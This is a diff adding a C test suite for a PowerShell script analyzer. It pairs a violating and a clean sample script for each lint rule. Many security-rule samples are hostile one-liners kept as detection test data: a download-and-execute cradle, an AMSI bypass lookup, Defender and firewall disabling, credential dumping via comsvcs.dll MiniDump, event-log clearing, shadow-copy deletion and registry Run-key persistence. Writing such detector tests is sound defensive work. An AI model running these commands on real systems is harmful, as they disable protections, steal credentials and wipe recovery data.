@@ -1,0 +1,376 @@
+/* test-analyzer-rules.c: one violating and one clean script per analyzer rule, extents checked */
+#include "config.h"
+
+#include <stdio.h>
+#include <string.h>
+
+#include "analyzer/analyzer.h"
+#include "core/core.h"
+#include "t.h"
+
+struct rule_case {
+	const char	*id;
+	const char	*bad;		/* must raise id ... */
+	unsigned	 line, column;	/* ... at this position ... */
+	const char	*extent;	/* ... with this extent (prefix for long ones) */
+	const char	*good;		/* must not raise id */
+};
+
+#define B64_20 "aGVsbG8gd29ybGQ1MjM0"
+#define B64_220 B64_20 B64_20 B64_20 B64_20 B64_20 B64_20 B64_20 B64_20 B64_20 B64_20 B64_20
+#define A_130 "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" \
+	"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
+
+static const struct rule_case cases[] = {
+	{ "PSAvoidUsingCmdletAliases", "gci C:\\x", 1, 1, "gci", "Get-ChildItem C:\\x" },
+	{ "PSAvoidUsingWriteHost", "Write-Host 'hi'", 1, 1, "Write-Host 'hi'",
+	    "function Show-Banner { Write-Host 'hi' }" },
+	{ "PSAvoidUsingPositionalParameters", "Copy-Item a b c", 1, 1, "Copy-Item a b c",
+	    "Copy-Item -Path a -Destination b" },
+	{ "PSAvoidGlobalVars", "$global:x = 1", 1, 1, "$global:x", "$script:x = 1" },
+	{ "PSAvoidUsingEmptyCatchBlock", "try { 1 } catch { }", 1, 11, "catch { }",
+	    "try { 1 } catch { Write-Error $_ }" },
+	{ "PSUseApprovedVerbs", "function Grab-Item { }", 1, 10, "Grab-Item",
+	    "function Get-Thing { }" },
+	{ "PSUseSingularNouns", "function Get-Files { }", 1, 10, "Get-Files",
+	    "function Get-File { }" },
+	{ "PSUseShouldProcessForStateChangingFunctions", "function Set-Thing { param($a) $a }", 1,
+	    10, "Set-Thing",
+	    "function Set-Thing { [CmdletBinding(SupportsShouldProcess)] param($a) $a }" },
+	{ "PSAvoidDefaultValueSwitchParameter", "function f { param([switch]$S = $true) $S }", 1,
+	    20, "[switch]$S = $true", "function f { param([switch]$S) $S }" },
+	{ "PSUseDeclaredVarsMoreThanAssignments", "$a = 1", 1, 1, "$a", "$a = 1; $a" },
+	{ "PSPossibleIncorrectComparisonWithNull", "if ($x -eq $null) { }", 1, 5, "$x -eq $null",
+	    "if ($null -eq $x) { }" },
+	{ "PSAvoidAssignmentToAutomaticVariable", "$input = 1", 1, 1, "$input", "$in2 = 1" },
+	{ "PSAvoidUsingWMICmdlet", "Get-WmiObject Win32_OS", 1, 1, "Get-WmiObject",
+	    "Get-CimInstance Win32_OS" },
+	{ "PSProvideCommentHelp", "function Get-A { }", 1, 10, "Get-A",
+	    "<#\n.SYNOPSIS\nGets A.\n#>\nfunction Get-A { }" },
+	{ "PSAvoidTrailingWhitespace", "Get-Date  \n", 1, 9, "  ", "Get-Date\n" },
+	{ "PSAvoidUsingUsernameAndPasswordParams",
+	    "function Connect-X { param($Username, $Password) }", 1, 10, "Connect-X",
+	    "function Connect-X { param([pscredential]$Credential) }" },
+	{ "PSUsePSCredentialType", "function f { param([string]$Credential) $Credential }", 1,
+	    28, "$Credential", "function f { param([pscredential]$Credential) $Credential }" },
+	{ "PSMisleadingBacktick", "Get-Date ` \n-Format o", 1, 10, "` ", "Get-Date `\n-Format o" },
+	{ "PSAvoidSemicolonsAsLineTerminators", "Get-Date;\n", 1, 9, ";", "Get-Date; Get-Host\n" },
+	{ "PSAvoidLongLines", "Write-Output '" A_130 "'", 1, 1, "Write-Output 'aaa",
+	    "Write-Output 'short'" },
+	{ "PSPossibleIncorrectUsageOfAssignmentOperator", "if ($a = 1) { }", 1, 5, "$a = 1",
+	    "if ($a -eq 1) { }" },
+	{ "PSPossibleIncorrectUsageOfRedirectionOperator", "if ($a > $b) { }", 1, 8, ">",
+	    "if ($a -gt $b) { }" },
+	{ "PSUseBOMForUnicodeEncodedFile", "Write-Output 'caf\xC3\xA9'", 1, 18, "\xC3\xA9",
+	    "\xEF\xBB\xBFWrite-Output 'caf\xC3\xA9'" },
+	{ "PSReservedCmdletChar", "function Get-A+b { }", 1, 10, "Get-A+b", "function Get-Ab { }" },
+	{ "PSReservedParams", "function f { [CmdletBinding()] param($ErrorAction) $ErrorAction }",
+	    1, 38, "$ErrorAction",
+	    "function f { [CmdletBinding()] param($ErrAction) $ErrAction }" },
+	{ "PSUseSupportsShouldProcess", "function f { param($WhatIf) $WhatIf }", 1, 20, "$WhatIf",
+	    "function f { [CmdletBinding(SupportsShouldProcess)] param() }" },
+	{ "PSShouldProcess", "function Remove-A { [CmdletBinding(SupportsShouldProcess)] param() 'x' }",
+	    1, 10, "Remove-A",
+	    "function Remove-A { [CmdletBinding(SupportsShouldProcess)] param()\n"
+	    "if ($PSCmdlet.ShouldProcess('x')) { 'x' } }" },
+	{ "PSAvoidShouldContinueWithoutForce",
+	    "function f { [CmdletBinding()] param()\nif ($PSCmdlet.ShouldContinue('q', 'c')) { } }",
+	    1, 10, "f",
+	    "function f { [CmdletBinding()] param([switch]$Force)\n"
+	    "if ($Force -or $PSCmdlet.ShouldContinue('q', 'c')) { } }" },
+	{ "PSAvoidMultipleTypeAttributes", "function f { param([int][string]$a) $a }", 1, 20,
+	    "[int][string]$a", "function f { param([int]$a) $a }" },
+	{ "PSAvoidNullOrEmptyHelpMessageAttribute",
+	    "function f { param([Parameter(HelpMessage='')]$a) $a }", 1, 31, "HelpMessage=''",
+	    "function f { param([Parameter(HelpMessage='The a')]$a) $a }" },
+	{ "PSUseLiteralInitializerForHashtable", "$h = New-Object Hashtable; $h", 1, 6,
+	    "New-Object Hashtable", "$h = @{}; $h" },
+	{ "PSAvoidExclaimOperator", "if (!$a) { }", 1, 5, "!", "if (-not $a) { }" },
+	{ "PSUseCompatibleCmdlets", "Get-WmiObject Win32_OS", 1, 1, "Get-WmiObject",
+	    "Get-CimInstance Win32_OS" },
+	{ "PSUseCompatibleSyntax", "$a = $b ?? 1", 1, 9, "??", "#Requires -Version 7\n$a = $b ?? 1" },
+	{ "PSUseProcessBlockForPipelineCommand",
+	    "function f { param([Parameter(ValueFromPipeline)]$In) $In }", 1, 20,
+	    "[Parameter(ValueFromPipeline)]$In",
+	    "function f { param([Parameter(ValueFromPipeline)]$In)\nprocess { $In } }" },
+	{ "PSAvoidOverwritingBuiltInCmdlets", "function Get-ChildItem { }", 1, 10, "Get-ChildItem",
+	    "function Get-MyItem { }" },
+	{ "PSUseCorrectCasing", "get-childitem", 1, 1, "get-childitem", "Get-ChildItem" },
+	{ "PSAvoidDefaultValueForMandatoryParameter",
+	    "function f { param([Parameter(Mandatory)]$a = 1) $a }", 1, 20,
+	    "[Parameter(Mandatory)]$a = 1", "function f { param([Parameter(Mandatory)]$a) $a }" },
+	{ "PSReviewUnusedParameter", "function f { param($a) 1 }", 1, 20, "$a",
+	    "function f { param($a) $a }" },
+	{ "PSSAvoidFormatInMiddleOfPipeline", "Get-Process | Format-Table | Sort-Object", 1, 15,
+	    "Format-Table", "Get-Process | Sort-Object | Format-Table" },
+	{ "PSAvoidUsingInvokeExpression", "Invoke-Expression $cmd", 1, 1, "Invoke-Expression $cmd",
+	    "& $cmd" },
+	{ "PSAvoidUsingPlainTextForPassword", "function f { param([string]$Password) $Password }",
+	    1, 28, "$Password", "function f { param([securestring]$Password) $Password }" },
+	{ "PSAvoidUsingConvertToSecureStringWithPlainText",
+	    "$s = ConvertTo-SecureString $p -AsPlainText -Force; $s", 1, 6,
+	    "ConvertTo-SecureString $p -AsPlainText -Force", "$s = Read-Host -AsSecureString; $s" },
+	{ "PSAvoidUsingComputerNameHardcoded", "Get-Service -ComputerName 'srv01'", 1, 27,
+	    "'srv01'", "Get-Service -ComputerName $Computer" },
+	{ "PSAvoidUsingBrokenHashAlgorithms", "Get-FileHash x -Algorithm MD5", 1, 27, "MD5",
+	    "Get-FileHash x -Algorithm SHA256" },
+	{ "PSAvoidUsingAllowUnencryptedAuthentication",
+	    "Invoke-RestMethod -Uri $u -AllowUnencryptedAuthentication", 1, 27,
+	    "-AllowUnencryptedAuthentication", "Invoke-RestMethod -Uri $u" },
+	{ "PSSAvoidDownloadCradle", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
+	    1, 1, "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
+	    "(New-Object Net.WebClient).DownloadFile('http://x/a.txt', 'a.txt')" },
+	{ "PSSAvoidEncodedCommand", "powershell.exe -EncodedCommand ZQBjAGgAbwAgADEA", 1, 1,
+	    "powershell.exe -EncodedCommand ZQBjAGgAbwAgADEA", "powershell.exe -File .\\x.ps1" },
+	{ "PSSAvoidBase64Execution",
+	    "$d = [Convert]::FromBase64String($b); [Reflection.Assembly]::Load($d)", 1, 39,
+	    "[Reflection.Assembly]::Load($d)",
+	    "$d = [Convert]::FromBase64String($b); [IO.File]::WriteAllBytes('x', $d)" },
+	{ "PSSAvoidProcessInjectionApi",
+	    "Add-Type @'\n[DllImport(\"kernel32.dll\")] public static extern IntPtr "
+	    "VirtualAlloc(IntPtr a, uint s, uint t, uint p);\n'@", 1, 10, "@'\n[DllImport",
+	    "Add-Type @'\n[DllImport(\"kernel32.dll\")] public static extern uint GetTickCount();\n'@" },
+	{ "PSSAvoidReflectionAssemblyLoad", "[System.Reflection.Assembly]::Load($bytes)", 1, 1,
+	    "[System.Reflection.Assembly]::Load($bytes)", "Add-Type -Path .\\lib.dll" },
+	{ "PSSAvoidAmsiBypass", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
+	    1, 54, "AmsiUtils", "[Ref].Assembly.GetType('System.Management.Automation.PSObject')" },
+	{ "PSSAvoidDefenderTampering", "Set-MpPreference -DisableRealtimeMonitoring $true", 1, 1,
+	    "Set-MpPreference -DisableRealtimeMonitoring $true",
+	    "Set-MpPreference -DisableRealtimeMonitoring $false" },
+	{ "PSSAvoidFirewallTampering", "Set-NetFirewallProfile -Profile Domain -Enabled False", 1, 1,
+	    "Set-NetFirewallProfile", "Set-NetFirewallProfile -Profile Domain -Enabled True" },
+	{ "PSSAvoidExecutionPolicyBypass", "Set-ExecutionPolicy Bypass -Scope Process", 1, 1,
+	    "Set-ExecutionPolicy Bypass -Scope Process",
+	    "Set-ExecutionPolicy RemoteSigned -Scope CurrentUser" },
+	{ "PSSAvoidCertificateValidationBypass",
+	    "[Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }", 1, 1,
+	    "[Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }",
+	    "[Net.ServicePointManager]::SecurityProtocol = 'Tls12'" },
+	{ "PSSAvoidHardcodedSecrets", "$apiKey = 'sk_3f9a8b7c6d5e4f3a'", 1, 1,
+	    "$apiKey = 'sk_3f9a8b7c6d5e4f3a'", "$apiKey = $env:API_KEY" },
+	{ "PSSAvoidRunKeyPersistence",
+	    "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' "
+	    "-Name x -Value y", 1, 57, "\\CurrentVersion\\Run",
+	    "Set-ItemProperty -Path 'HKCU:\\Software\\Contoso' -Name x -Value y" },
+	{ "PSSReviewScheduledTaskPersistence", "Register-ScheduledTask -TaskName t -Action $a", 1, 1,
+	    "Register-ScheduledTask -TaskName t -Action $a", "Get-ScheduledTask -TaskName t" },
+	{ "PSSAvoidWmiEventSubscription",
+	    "Set-WmiInstance -Class __EventFilter -Namespace root\\subscription -Arguments $f", 1, 24,
+	    "__EventFilter", "Get-CimInstance -ClassName Win32_Service" },
+	{ "PSSReviewServiceCreation", "New-Service -Name svc -BinaryPathName C:\\svc.exe", 1, 1,
+	    "New-Service -Name svc -BinaryPathName C:\\svc.exe", "Get-Service -Name svc" },
+	{ "PSSAvoidCredentialDumping",
+	    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
+	    1, 34, "comsvcs.dll, MiniDump", "rundll32.exe shell32.dll,Control_RunDLL" },
+	{ "PSSAvoidEventLogClearing", "Clear-EventLog -LogName Security", 1, 1,
+	    "Clear-EventLog -LogName Security", "Get-EventLog -LogName Security -Newest 5" },
+	{ "PSSAvoidShadowCopyDeletion", "vssadmin.exe delete shadows /all /quiet", 1, 1,
+	    "vssadmin.exe delete shadows", "vssadmin.exe list shadows" },
+	{ "PSSAvoidDestructiveDiskOperations", "Format-Volume -DriveLetter D", 1, 1,
+	    "Format-Volume -DriveLetter D", "Get-Volume -DriveLetter D" },
+	{ "PSSAvoidLocalAdminCreation", "Add-LocalGroupMember -Group Administrators -Member bob", 1,
+	    1, "Add-LocalGroupMember -Group Administrators -Member bob",
+	    "Add-LocalGroupMember -Group Users -Member bob" },
+	{ "PSSAvoidHiddenWindow", "Start-Process notepad -WindowStyle Hidden", 1, 1,
+	    "Start-Process notepad -WindowStyle Hidden", "Start-Process notepad -WindowStyle Normal" },
+	{ "PSSObfuscationBacktick", "I`nv`oke-Expression $x", 1, 1, "I`nv`oke-Expression",
+	    "Invoke-Expression $x" },
+	{ "PSSObfuscationStringReversal", "$r = $s[-1..-($s.Length)] -join ''", 1, 6,
+	    "$s[-1..-($s.Length)]", "$r = $s[0..3] -join ''" },
+	{ "PSSObfuscationCharCodes", "$c = [char[]](73,69,88,32) -join ''", 1, 6,
+	    "[char[]](73,69,88,32)", "$c = 'IEX '" },
+	{ "PSSObfuscationFormatOperator", "$c = '{2}{0}{1}' -f 'ke-Ex','pression','Invo'", 1, 6,
+	    "'{2}{0}{1}' -f 'ke-Ex','pression','Invo'", "$c = '{0} {1}' -f 'a','b'" },
+	{ "PSSObfuscationRandomCase", "InVoKe-ExPrEsSiOn $x", 1, 1, "InVoKe-ExPrEsSiOn",
+	    "Invoke-Expression $x" },
+	{ "PSSObfuscationHighEntropyString", "$k = 'Xq9#vL2@pZ7!mN4$wR8%tY1^bC6&hJ3*fG5(dK0)sA'", 1,
+	    6, "'Xq9#vL2@pZ7!mN4$wR8%tY1^bC6&hJ3*fG5(dK0)sA'",
+	    "$k = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'" },
+	{ "PSSObfuscationBase64Blob", "$p = '" B64_220 "'", 1, 6, "'aGVsbG8gd29y",
+	    "$p = 'aGVsbG8gd29ybGQ1MjM0'" },
+	{ "PSSObfuscationDynamicCommandName", "& ('Get-'+'Date')", 1, 3, "('Get-'+'Date')",
+	    "& 'Get-Date'" },
+	{ "PSSAvoidArrayAdditionInLoop", "$a = @()\nforeach ($i in 1..3) { $a += $i }\n$a", 2, 24,
+	    "$a += $i", "$a = foreach ($i in 1..3) { $i }\n$a" },
+	{ "PSSUseFilterLeft", "Get-ChildItem | Where-Object { $_.Name -like '*.txt' }", 1, 17,
+	    "Where-Object { $_.Name -like '*.txt' }", "Get-ChildItem -Filter *.txt" },
+	{ "PSSAvoidOutNull", "Get-Date | Out-Null", 1, 12, "Out-Null", "$null = Get-Date" },
+	{ "PSSUsePSCustomObjectLiteral", "New-Object PSObject -Property @{ a = 1 }", 1, 1,
+	    "New-Object PSObject -Property @{ a = 1 }", "[pscustomobject]@{ a = 1 }" },
+	{ "PSSAvoidStringConcatenationInLoop", "$s = ''\nforeach ($i in 1..3) { $s += \"$i\" }\n$s",
+	    2, 24, "$s += \"$i\"", "$s = (1..3) -join ''\n$s" },
+	{ "PSSReviewRemoteExecution", "Invoke-Command -ComputerName $c -ScriptBlock { hostname }",
+	    1, 1, "Invoke-Command -ComputerName $c", "Invoke-Command -ScriptBlock { hostname }" },
+	{ "PSSReviewRecursiveForceDelete", "Remove-Item -Path $dir -Recurse -Force", 1, 1,
+	    "Remove-Item -Path $dir -Recurse -Force", "Remove-Item -Path $file" },
+	{ "PSSReviewSystemRestart", "Restart-Computer -Force", 1, 1, "Restart-Computer -Force",
+	    "Get-ComputerInfo" },
+	{ "PSSReviewServiceChange", "Stop-Service -Name Spooler", 1, 1, "Stop-Service -Name Spooler",
+	    "Get-Service -Name Spooler" },
+	{ "PSSReviewProcessTermination", "Stop-Process -Name notepad", 1, 1,
+	    "Stop-Process -Name notepad", "Get-Process -Name notepad" },
+	{ "PSSReviewRegistryChange", "Set-ItemProperty -Path HKCU:\\Software\\Contoso -Name a -Value 1",
+	    1, 1, "Set-ItemProperty -Path HKCU:", "Get-ItemProperty -Path HKCU:\\Software\\Contoso" },
+	{ "PSSReviewAccountChange", "New-LocalUser -Name bob -NoPassword", 1, 1,
+	    "New-LocalUser -Name bob -NoPassword", "Get-LocalUser -Name bob" },
+	{ "PSSReviewNetworkAccess", "Invoke-RestMethod -Uri $u", 1, 1, "Invoke-RestMethod -Uri $u",
+	    "Get-Content $f" },
+	{ "PSSReviewElevation", "#Requires -RunAsAdministrator\nGet-Date", 1, 1,
+	    "#Requires -RunAsAdministrator", "Get-Date" },
+};
+
+static struct ps_analysis *
+run_only(const char *src, const char *id)
+{
+	struct ps_analyze_opts o;
+	struct ps_analysis *a = NULL;
+	const char *ids[1] = { id };
+
+	memset(&o, 0, sizeof(o));
+	o.include_rules = ids;
+	o.ninclude = 1;
+	if (ps_analyze(src, strlen(src), &o, &a) != PSS_OK)
+		return NULL;
+	return a;
+}
+
+static size_t
+utf8_chars(const char *s)
+{
+	size_t n = 0;
+
+	for (; *s; s++)
+		if (((unsigned char)*s & 0xC0) != 0x80)
+			n++;
+	return n;
+}
+
+/* Every rule has a case, and every case names a rule. */
+static void
+test_every_rule_has_a_case(void)
+{
+	size_t n;
+	const struct ps_rule_info *r = ps_rules(&n);
+
+	T_ASSERTF(n >= 45, "only %zu rules", n);
+	for (size_t i = 0; i < n; i++) {
+		bool found = false;
+
+		for (size_t k = 0; k < PSS_ARRAY_LEN(cases); k++)
+			if (strcmp(cases[k].id, r[i].id) == 0)
+				found = true;
+		T_ASSERTF(found, "rule %s has no test case", r[i].id);
+		T_ASSERTF(r[i].title != NULL && r[i].suggestion != NULL, "rule %s lacks text", r[i].id);
+	}
+	for (size_t k = 0; k < PSS_ARRAY_LEN(cases); k++)
+		T_ASSERTF(ps_rule_find(cases[k].id) != NULL, "case names unknown rule %s",
+		    cases[k].id);
+}
+
+static void
+check_case(const struct rule_case *c)
+{
+	struct ps_analysis *a = run_only(c->bad, c->id);
+	const struct ps_finding *hit = NULL;
+	char name[160];
+	int ok = 1;
+
+	if (a == NULL) {
+		snprintf(name, sizeof(name), "%s: analysis failed", c->id);
+		t_result(0, name);
+		return;
+	}
+	for (size_t i = 0; i < a->nfindings; i++)
+		if (strcmp(a->findings[i].rule->id, c->id) == 0 && hit == NULL)
+			hit = &a->findings[i];
+	if (hit == NULL) {
+		printf("#   %s: no finding in %s\n", c->id, c->bad);
+		ok = 0;
+	} else {
+		if (hit->line != c->line || hit->column != c->column) {
+			printf("#   %s: at %u:%u, want %u:%u\n", c->id, hit->line, hit->column, c->line,
+			    c->column);
+			ok = 0;
+		}
+		if (strncmp(hit->extent, c->extent, strlen(c->extent)) != 0 &&
+		    strncasecmp(hit->extent, c->extent, strlen(c->extent)) != 0) {
+			printf("#   %s: extent \"%s\", want \"%s\"\n", c->id, hit->extent, c->extent);
+			ok = 0;
+		}
+		/* single-line extents: endColumn is the column after the last character */
+		if (hit->end_line == hit->line && strchr(hit->extent, '\n') == NULL &&
+		    strlen(hit->extent) < 200 &&
+		    hit->end_column != hit->column + utf8_chars(hit->extent)) {
+			printf("#   %s: endColumn %u, want %zu\n", c->id, hit->end_column,
+			    hit->column + utf8_chars(hit->extent));
+			ok = 0;
+		}
+		if (hit->message == NULL || hit->message[0] == '\0' || hit->suggestion == NULL) {
+			printf("#   %s: no message or suggestion\n", c->id);
+			ok = 0;
+		}
+	}
+	ps_analysis_free(a);
+	snprintf(name, sizeof(name), "%s raises on the violating script", c->id);
+	t_result(ok, name);
+
+	a = run_only(c->good, c->id);
+	ok = a != NULL;
+	for (size_t i = 0; a != NULL && i < a->nfindings; i++) {
+		if (strcmp(a->findings[i].rule->id, c->id) == 0) {
+			printf("#   %s: clean script raised \"%s\" at %u:%u\n", c->id,
+			    a->findings[i].message, a->findings[i].line, a->findings[i].column);
+			ok = 0;
+		}
+	}
+	ps_analysis_free(a);
+	snprintf(name, sizeof(name), "%s is quiet on the clean script", c->id);
+	t_result(ok, name);
+}
+
+static void
+test_unknown_rule_is_einval(void)
+{
+	struct ps_analyze_opts o;
+	struct ps_analysis *a = NULL;
+	const char *ids[1] = { "NoSuchRule" };
+
+	memset(&o, 0, sizeof(o));
+	o.include_rules = ids;
+	o.ninclude = 1;
+	T_EQ(ps_analyze("Get-Date", 8, &o, &a), PSS_EINVAL);
+	T_ASSERT(a == NULL);
+	ids[0] = "PSAvoid*";
+	T_EQ(ps_analyze("gci", 3, &o, &a), PSS_OK);
+	T_ASSERT(a != NULL && a->nfindings == 1);
+	ps_analysis_free(a);
+}
+
+static void
+test_severity_filter_keeps_scores(void)
+{
+	const char *src = "gci | ? { $_ }\nWrite-Host x  \n";
+	struct ps_analyze_opts o;
+	struct ps_analysis *all = NULL, *errs = NULL;
+
+	memset(&o, 0, sizeof(o));
+	T_EQ(ps_analyze(src, strlen(src), NULL, &all), PSS_OK);
+	o.min_severity = PS_SEV_ERROR;
+	T_EQ(ps_analyze(src, strlen(src), &o, &errs), PSS_OK);
+	T_ASSERT(all->nfindings > 0);
+	T_EQ(errs->nfindings, 0);
+	T_ASSERT(all->quality_score == errs->quality_score);
+	ps_analysis_free(all);
+	ps_analysis_free(errs);
+}
+
+int
+main(void)
+{
+	T_RUN(test_every_rule_has_a_case);
+	for (size_t i = 0; i < PSS_ARRAY_LEN(cases); i++)
+		check_case(&cases[i]);
+	T_RUN(test_unknown_rule_is_einval);
+	T_RUN(test_severity_filter_keeps_scores);
+	return t_done();
+}
